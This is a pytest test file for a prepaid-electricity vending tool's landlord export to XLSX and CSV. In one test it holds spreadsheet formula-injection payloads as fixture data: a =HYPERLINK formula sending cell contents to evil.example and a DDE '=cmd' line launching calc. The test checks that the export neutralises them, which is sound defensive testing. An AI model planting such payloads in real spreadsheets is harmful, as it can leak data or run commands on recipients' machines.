"""An export you can hand on (issue 14 §6): `export --for landlord` and the results screen's `x`,
as XLSX and CSV, against the sandbox; read back as a spreadsheet would read them."""

from __future__ import annotations

import csv
import io
import re
import stat

import pytest
from openpyxl import load_workbook

from buypower_tui.core.export import Table, write_xlsx
from buypower_tui.core.models import Batch, Recipient
from buypower_tui.core.store import Store
from buypower_tui.paths import AppPaths
from tests.engine_helpers import cli, cli_sandbox
from tests.hostile_server import HostileServer
from tests.ui_support import (
    SIZE,
    confirm_dialog,
    demo_app,
    screen_text,
    settle,
    steady_screen,  # noqa: F401 - autouse
    until,
)

KCT, KCT_AND_BONUS, PLAIN, IBADAN_13 = "55500000011", "55500000015", "12345678910", "0159006592509"
SANDBOX_PAID = "paid (sandbox test: not a real token)"  # a sandbox batch's tokens load no meter
HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"Click for your token")'
HEADER = ["Sheet row", "Name", "Phone", "Flat", "Block", "Meter", "Amount (NGN)", "KCT1", "KCT2", "Token",
          "Bonus token", "Units (kWh)", "Receipt", "Paid at", "Status"]
SHEET = (
    "meter,disco,amount,phone,name,Flat,Block\n"
    f"{KCT},ABUJA,2000,08031234567,Ada Obi,001,B\n"
    f"{PLAIN},ABUJA,1500,08031234568,Emeka Nwosu,002,B\n"
    f"{IBADAN_13},IBADAN,1000,09031234569,Funmi Ade,003,C\n"
    f"{KCT_AND_BONUS},ABUJA,2500,07031234560,Chidi Eze,004,\n"
    "123,EKO,1000,08031234561,Bad Meter,005,D\n"  # invalid: never paid, still listed
)


def grouped(digits: str) -> str:
    return "-".join(digits[i:i + 4] for i in range(0, 20, 4))


@pytest.fixture
def paid(monkeypatch, capsys, tmp_path, lagos):
    """Batch 1 imported with two extra columns (Flat, Block) and paid on the sandbox."""
    with cli_sandbox(monkeypatch, seed=5) as sandbox:
        sheet = tmp_path / "estate.csv"
        sheet.write_text(SHEET)
        code, out, err = cli(capsys, sandbox, "import", str(sheet))
        assert code == 1, out + err  # one invalid row
        code, out, err = cli(capsys, sandbox, "run", "1", "--yes")
        assert "4 SUCCESS" in out, out + err
        yield sandbox


def workbook_rows(path):
    ws = load_workbook(path).active
    cells = [list(r) for r in ws.iter_rows()]
    return ws, [c.value for c in cells[0]], cells[1:]


def test_landlord_xlsx_and_csv_keep_text_tokens_in_typing_order_and_every_row(paid, capsys, tmp_path):
    sandbox = paid
    target = tmp_path / "for-landlord.xlsx"
    code, _, err = cli(capsys, sandbox, "export", "1", "--for", "landlord", "-o", str(target))
    assert code == 0 and "exported 5 rows for the landlord" in err, err
    assert stat.S_IMODE(target.stat().st_mode) == 0o600
    ws, header, cells = workbook_rows(target)
    assert header == HEADER and ws.freeze_panes == "A2"
    by_meter = {r[HEADER.index("Meter")].value: {h: c for h, c in zip(HEADER, r, strict=True)} for r in cells}
    assert [r[0].value for r in cells] == [2, 3, 4, 5, 6]  # sheet order, the invalid row too

    # meters, phones, extra columns, tokens and receipts are text cells: leading zeros stay
    ibadan = by_meter[IBADAN_13]
    for column, value in (("Meter", IBADAN_13), ("Phone", "09031234569"), ("Flat", "003"), ("Block", "C")):
        assert (ibadan[column].value, ibadan[column].data_type, ibadan[column].number_format) == (value, "s", "@")
    for row in by_meter.values():
        for column in ("Token", "Receipt", "Paid at"):
            if row[column].value is not None:
                assert row[column].data_type == "s" and row[column].number_format == "@", column
    assert by_meter[KCT]["Amount (NGN)"].value == 2000 and by_meter[KCT]["Amount (NGN)"].data_type == "n"
    assert by_meter[KCT]["Amount (NGN)"].number_format == "#,##0.00"

    orders = {v["meter"]: sandbox.ledger.order(v["orderId"]) for v in sandbox.ledger.vends()}
    for meter, order in orders.items():  # every token, in the order the customer types them
        extra = {p["type"]: grouped(p["content"]) for p in order.extra_parcels}
        row = by_meter[meter]
        assert [row[c].value or "" for c in ("KCT1", "KCT2", "Token", "Bonus token")] == [
            extra.get("KCT1", ""), extra.get("KCT2", ""), grouped(order.token), extra.get("BONUS", "")], meter
        assert row["Receipt"].value == order.receipt_no and row["Units (kWh)"].value > 0
        assert re.fullmatch(r"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\+01:00", row["Paid at"].value)
        assert row["Status"].value == SANDBOX_PAID and row["Units (kWh)"].data_type == "n"  # a sandbox batch
    assert by_meter[KCT]["KCT1"].value and by_meter[KCT]["KCT2"].value and not by_meter[KCT]["Bonus token"].value
    assert all(by_meter[KCT_AND_BONUS][c].value for c in ("KCT1", "KCT2", "Token", "Bonus token"))
    assert by_meter[KCT_AND_BONUS]["Block"].value is None  # an empty sheet cell stays empty
    unpaid = by_meter["123"]
    assert unpaid["Status"].value == "not paid yet" and unpaid["Flat"].value == "005"
    assert all(unpaid[c].value is None for c in ("KCT1", "KCT2", "Token", "Bonus token", "Units (kWh)", "Receipt",
                                                 "Paid at"))

    as_csv = tmp_path / "for-landlord.csv"
    assert cli(capsys, sandbox, "export", "1", "--for", "landlord", "-o", str(as_csv))[0] == 0
    raw = as_csv.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf") and stat.S_IMODE(as_csv.stat().st_mode) == 0o600  # Excel reads UTF-8
    lines = list(csv.DictReader(io.StringIO(raw.decode("utf-8-sig"))))
    assert list(lines[0]) == HEADER and [line["Meter"] for line in lines][2] == IBADAN_13
    for line in lines:  # the same cells as the workbook, as text
        book = by_meter[line["Meter"]]
        for column in ("Name", "Phone", "Flat", "Block", "KCT1", "KCT2", "Token", "Bonus token", "Receipt",
                       "Paid at", "Status"):
            assert line[column] == (book[column].value or ""), column
    assert lines[0]["Amount (NGN)"] == "2000.00"

    code, out, _ = cli(capsys, sandbox, "export", "1", "--for", "landlord")  # to the terminal: CSV, no BOM
    assert code == 0 and out.startswith("Sheet row,Name,") and len(list(csv.DictReader(io.StringIO(out)))) == 5

    full = tmp_path / "full.xlsx"  # the full export as a workbook too
    assert cli(capsys, sandbox, "export", "1", "-o", str(full))[0] == 0
    _, header, cells = workbook_rows(full)
    meter = header.index("meter")
    assert header[:2] == ["sheet_row", "meter"] and {r[meter].value for r in cells} >= {IBADAN_13, KCT}
    assert all(r[meter].data_type == "s" for r in cells)


def test_hostile_cells_come_back_as_text(monkeypatch, capsys, tmp_path):
    sheet = tmp_path / "hostile.csv"
    hostile = HOSTILE.replace('"', '""')
    sheet.write_text("meter,disco,amount,phone,name,Flat,Block\n"
                     f'{PLAIN},ABUJA,1500,08031234568,"{hostile}",+1+1,@SUM(A1)\n'
                     f'{KCT},ABUJA,2000,08031234567,-2+3,=1+1,"=cmd|\' /C calc\'!A0"\n')
    with cli_sandbox(monkeypatch, seed=5) as sandbox:
        assert cli(capsys, sandbox, "import", str(sheet))[0] == 0
        for name in ("landlord.xlsx", "full.xlsx"):
            layout = "landlord" if name.startswith("landlord") else "full"
            assert cli(capsys, sandbox, "export", "1", "--for", layout, "-o", str(tmp_path / name))[0] == 0
        assert cli(capsys, sandbox, "export", "1", "--for", "landlord", "-o", str(tmp_path / "landlord.csv"))[0] == 0
    for name in ("landlord.xlsx", "full.xlsx"):
        ws = load_workbook(tmp_path / name).active
        every = [c for row in ws.iter_rows() for c in row]
        assert not [c.coordinate for c in every if c.data_type == "f"], name  # no formula anywhere
        texts = {c.value for c in every if isinstance(c.value, str)}
        assert not any(t.startswith(("=", "+", "-", "@")) for t in texts), name
    ws = load_workbook(tmp_path / "landlord.xlsx").active
    names = {ws.cell(r, 2).value: ws.cell(r, 2) for r in (2, 3)}
    assert set(names) == {"'" + HOSTILE, "'-2+3"} and names["'" + HOSTILE].data_type == "s"
    assert [ws.cell(2, c).value for c in (4, 5)] == ["'+1+1", "'@SUM(A1)"]
    lines = list(csv.DictReader((tmp_path / "landlord.csv").open(encoding="utf-8-sig", newline="")))
    assert lines[0]["Name"] == "'" + HOSTILE and lines[1]["Flat"] == "'=1+1" and lines[1]["Status"] == "not paid yet"


def test_a_cell_xml_cannot_hold_is_shown_escaped_not_a_crash(tmp_path):
    out = tmp_path / "t.xlsx"
    with out.open("wb") as fh:
        assert write_xlsx(fh, Table("t", ["Name"], [["Ada\x1b[2J\x07"]], [10])) == 1
    assert load_workbook(out).active.cell(2, 1).value == "Ada\\x1b[2J\\x07"


def test_a_file_that_is_neither_csv_nor_xlsx_is_refused_naming_the_fix(monkeypatch, capsys, tmp_path):
    sheet = tmp_path / "estate.csv"
    sheet.write_text(SHEET)
    with cli_sandbox(monkeypatch, seed=5) as sandbox:
        cli(capsys, sandbox, "import", str(sheet))
        for argv in (("-o", str(tmp_path / "tokens.txt")), ("--for", "landlord", "-o", str(tmp_path / "tokens"))):
            code, out, err = cli(capsys, sandbox, "export", "1", *argv)
            assert code == 2 and "Traceback" not in err, err
            assert "CSV or XLSX" in err and ".xlsx" in err and ".csv" in err and "Nothing was written" in err
        code, _, err = cli(capsys, sandbox, "export", "1", "--invalid", "-o", str(tmp_path / "fix.xlsx"))
        assert code == 2 and "fix.csv" in err and "Nothing was written" in err
        code, _, err = cli(capsys, sandbox, "export", "1", "--invalid", "--for", "landlord", "-o",
                           str(tmp_path / "f.csv"))
        assert code == 2 and "give one of them" in err
        with pytest.raises(SystemExit) as exited:  # argparse names the choices
            cli(capsys, sandbox, "export", "1", "--for", "tenant")
        assert exited.value.code == 2 and "choose from 'full', 'landlord'" in capsys.readouterr().err
    assert sorted(p.name for p in tmp_path.iterdir()) == ["estate.csv", "home"]  # nothing was written


async def test_the_results_screen_exports_the_landlord_layout(tmp_path, lagos):
    from buypower_tui.ui.modals.confirm_run import ConfirmRunModal
    from buypower_tui.ui.modals.save_file import SaveFileModal
    from buypower_tui.ui.screens.results import ResultsScreen

    sheet = tmp_path / "estate.csv"
    sheet.write_text(SHEET)
    app = demo_app(tmp_path, open_batch=False)
    batch = app.services.import_sheet(sheet, name="Flats").batch_id
    out = tmp_path / "handed-on.xlsx"
    async with app.run_test(size=SIZE) as pilot:
        await settle(pilot)
        await confirm_dialog(pilot, batch)
        await pilot.press(*"VEND", "enter")
        await until(pilot, lambda: not isinstance(app.screen, ConfirmRunModal) and not app.run_active())
        app.push_screen(ResultsScreen(batch))
        await settle(pilot)
        await pilot.press("x")
        await pilot.pause()
        dialog = app.screen
        assert isinstance(dialog, SaveFileModal) and dialog.choice == "full"
        box = dialog.query_one("#path")
        assert box.value == "Flats-results.csv"
        await pilot.press("shift+tab", "down", "enter")  # the landlord's layout; the name follows it
        await pilot.pause()
        assert dialog.choice == "landlord" and box.value == "Flats-for-landlord.xlsx" and box.has_focus
        assert "○▌ Full" in screen_text(app) and "●▌ For the landlord" in screen_text(app)  # without colour too
        await pilot.press("ctrl+a", "ctrl+k", *str(tmp_path / "tokens.txt"), "enter")
        await pilot.pause()
        assert app.screen is dialog and "tokens.xlsx or tokens.csv" in str(dialog.query_one("#save-message").render())
        await pilot.press("ctrl+a", "ctrl+k", *str(out), "enter")
        await settle(pilot)
        assert not isinstance(app.screen, SaveFileModal)
        assert any("Wrote 5 rows" in n.message for n in app._notifications)
    _, header, cells = workbook_rows(out)
    assert header == HEADER
    rows = {r[HEADER.index("Meter")].value: r for r in cells}
    assert rows[IBADAN_13][HEADER.index("Phone")].value == "09031234569"
    assert rows[IBADAN_13][HEADER.index("Flat")].data_type == "s"
    kct = rows[KCT]
    assert all(kct[HEADER.index(c)].value for c in ("KCT1", "KCT2", "Token")) and kct[-1].value == SANDBOX_PAID
    assert rows["123"][-1].value == "not paid yet"
    assert stat.S_IMODE(out.stat().st_mode) == 0o600
    app.services.close()


def landlord_csv(capsys, sandbox) -> dict[str, dict[str, str]]:
    """`export 1 --for landlord` to the terminal, by meter."""
    code, out, err = cli(capsys, sandbox, "export", "1", "--for", "landlord")
    assert code == 0, err
    return {r["Meter"]: r for r in csv.DictReader(io.StringIO(out.lstrip("\ufeff")))}


def test_only_a_paid_row_hands_on_a_token_units_receipt_and_time(monkeypatch, capsys, tmp_path):
    """A row parked for review because BuyPower's token looks wrong (all zeros) keeps that token in
    the store (the money moved), but a landlord file never hands it on; a paid row does."""
    zero, honest = "45143922321", "34567890123"
    with cli_sandbox(monkeypatch, seed=13) as sandbox:
        def tamper(path: str, body: dict) -> dict:
            data = (body.get("result") or body).get("data")
            if isinstance(data, dict) and "orderId" in data and zero in {
                    v["meter"] for v in sandbox.ledger.vends() if v["orderId"] == data["orderId"]}:
                data["token"] = "0000-0000-0000-0000-0000"
                data["parcels"] = [{"type": "TOKEN", "content": "0" * 20}]
            return body

        sheet = tmp_path / "odd.csv"
        sheet.write_text(f"meter,disco,amount,phone,Flat\n{zero},ABUJA,1000,08031234567,1A\n"
                         f"{honest},ABUJA,1000,08031234567,1B\n")
        with HostileServer(sandbox.url, tamper=tamper) as proxy:
            assert cli(capsys, proxy, "import", str(sheet))[0] == 0
            code, out, err = cli(capsys, proxy, "run", "1", "--yes")
            assert "1 NEEDS_REVIEW" in out and "1 SUCCESS" in out, out + err
            rows = landlord_csv(capsys, proxy)
    parked, paid = rows[zero], rows[honest]
    assert parked["Status"] == "not settled yet" and parked["Flat"] == "1A"
    assert [parked[c] for c in ("KCT1", "KCT2", "Token", "Bonus token", "Units (kWh)", "Receipt", "Paid at")] \
        == [""] * 7, parked
    assert paid["Status"] == SANDBOX_PAID and paid["Token"] and paid["Receipt"] and paid["Paid at"]


def test_a_row_not_paid_never_shows_what_the_store_holds_for_it(paid, capsys):
    """Whatever a row not SUCCESS holds (a token typed in review, a receipt, a time), the
    landlord's file shows a status and nothing else; the full export keeps every fact."""
    store = Store.open(f"sqlite:///{AppPaths.resolve().db_file}")
    try:
        with store.engine.begin() as conn:
            t = Recipient.__table__
            for meter, state in ((KCT, "NEEDS_REVIEW"), (PLAIN, "FAILED"), (IBADAN_13, "PENDING")):
                conn.execute(t.update().where(t.c.meter == meter).values(state=state))
    finally:
        store.close()
    rows = landlord_csv(capsys, paid)
    for meter, status in ((KCT, "not settled yet"), (PLAIN, "not paid (failed)"), (IBADAN_13, "not settled yet")):
        assert rows[meter]["Status"] == status
        assert not any(rows[meter][c] for c in ("KCT1", "KCT2", "Token", "Units (kWh)", "Receipt", "Paid at")), meter
    assert rows[KCT_AND_BONUS]["Status"] == SANDBOX_PAID and rows[KCT_AND_BONUS]["Bonus token"]
    code, out, _ = cli(capsys, paid, "export", "1")  # the full export: every fact, with its state
    full = {r["meter"]: r for r in csv.DictReader(io.StringIO(out))}
    assert full[KCT]["state"] == "NEEDS_REVIEW" and full[KCT]["kct1"] and full[KCT]["receipt_no"]


def test_a_sandbox_batch_says_its_tokens_are_not_real_and_a_live_one_says_paid(paid, capsys, tmp_path):
    rows = landlord_csv(capsys, paid)
    assert {r["Status"] for r in rows.values()} == {SANDBOX_PAID, "not paid yet"}
    target = tmp_path / "landlord.xlsx"
    assert cli(capsys, paid, "export", "1", "--for", "landlord", "-o", str(target))[0] == 0
    ws = load_workbook(target).active
    assert ws.column_dimensions["O"].width >= len(SANDBOX_PAID)  # the Status column shows it whole
    store = Store.open(f"sqlite:///{AppPaths.resolve().db_file}")
    try:  # the same rows in a live batch: paid is paid
        with store.engine.begin() as conn:
            conn.execute(Batch.__table__.update().values(mode="live"))
    finally:
        store.close()
    rows = landlord_csv(capsys, paid)
    assert {r["Status"] for r in rows.values()} == {"paid", "not paid yet"}


def test_an_export_or_a_report_to_a_folder_that_is_not_there_writes_nothing(paid, capsys, tmp_path):
    """A typo in a folder's name is not a new folder: refused, named, nothing written."""
    missing = tmp_path / "no-such-folder"
    for argv in (("-o", str(missing / "x.csv")), ("--for", "landlord", "-o", str(missing / "x.xlsx")),
                 ("--invalid", "-o", str(missing / "fix.csv"))):
        code, _, err = cli(capsys, paid, "export", "1", *argv)
        assert code == 2 and f"export: there is no folder {missing}; nothing was written" in err, err
    code, _, err = cli(capsys, paid, "report", "-o", str(missing / "month.csv"))
    assert code == 2 and f"there is no folder {missing}" in err and "nothing was written" in err, err
    a_file = tmp_path / "estate.csv"  # a file where the folder should be
    code, _, err = cli(capsys, paid, "export", "1", "-o", str(a_file / "x.csv"))
    assert code == 2 and "nothing was written" in err, err
    assert not missing.exists()


def test_the_services_refuse_a_missing_folder_for_both_faces(paid, tmp_path):
    """The TUI's save dialogs call these same methods: a folder gone since it was picked is not made."""
    from buypower_tui.paths import NoFolder
    from tests.ui_support import services

    svc = services("--sandbox", "--base-url", paid.url)
    try:
        missing = tmp_path / "gone"
        with pytest.raises(NoFolder, match="there is no folder"):
            svc.export_to_file(1, missing / "x.xlsx", "landlord")
        with pytest.raises(NoFolder):
            svc.write_report(svc.month_report(), missing / "r.xlsx")
        assert not missing.exists()
    finally:
        svc.close()
